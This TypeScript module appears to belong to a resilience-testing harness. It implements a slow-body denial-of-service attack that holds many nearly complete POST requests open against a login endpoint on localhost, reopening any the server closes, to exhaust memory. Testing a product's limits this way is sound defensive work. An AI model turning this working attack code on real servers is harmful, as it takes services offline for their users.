import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import type { Attack } from './attack';
import { addressOf } from './fromAddress';

/** As large as a body can be and still count among the small ones, which sign-ins are. */
const LARGEST_SMALL_BODY = 65_536;

export interface FullBodiesOptions {
  networks: number;
  bodiesPerNetwork: number;
}

/**
 * Sends sign-ins whose bodies come at once but for their last byte, so that no rule about their pace ends them: together
 * they hold more memory than all small bodies may. One that is ended begins anew.
 */
export function fullBodies({ networks, bodiesPerNetwork }: FullBodiesOptions): Attack {
  return {
    begin: async ({ origin }) => {
      const open = new Set<Socket>();
      let [closing, ended] = [false, 0];
      const begin = async (index: number): Promise<void> => {
        const socket = await almostSent(origin, addressOf(100 + (index % networks)));
        open.add(socket);
        // Refused, or left alone for too long.
        socket.once('data', () => socket.destroy());
        socket.once('close', () => {
          open.delete(socket);
          if (closing) return;
          ended += 1;
          begin(index).catch(() => undefined); // The product was stopped before the attack was.
        });
      };
      await Promise.all(Array.from({ length: networks * bodiesPerNetwork }, (_, index) => begin(index)));
      return async () => {
        closing = true;
        const closed = [...open].map((socket) => once(socket, 'close'));
        for (const socket of open) socket.resetAndDestroy();
        await Promise.all(closed);
        return `${networks * bodiesPerNetwork} sign-ins of ${LARGEST_SMALL_BODY} bytes less one from ${networks} networks; ${ended} had to give way`;
      };
    },
  };
}

async function almostSent(origin: string, localAddress: string): Promise<Socket> {
  const { host, port } = new URL(origin);
  const socket = connect({ port: Number(port), host: '127.0.0.1', localAddress });
  await once(socket, 'connect');
  socket.on('error', () => undefined); // Being thrown out is what an attacker expects.
  const head = [
    'POST /api/auth/login HTTP/1.1',
    `host: ${host}`,
    `origin: ${origin}`,
    'content-type: application/json',
    `content-length: ${LARGEST_SMALL_BODY}`,
    '\r\n',
  ];
  socket.write(head.join('\r\n') + 'x'.repeat(LARGEST_SMALL_BODY - 1));
  return socket;
}
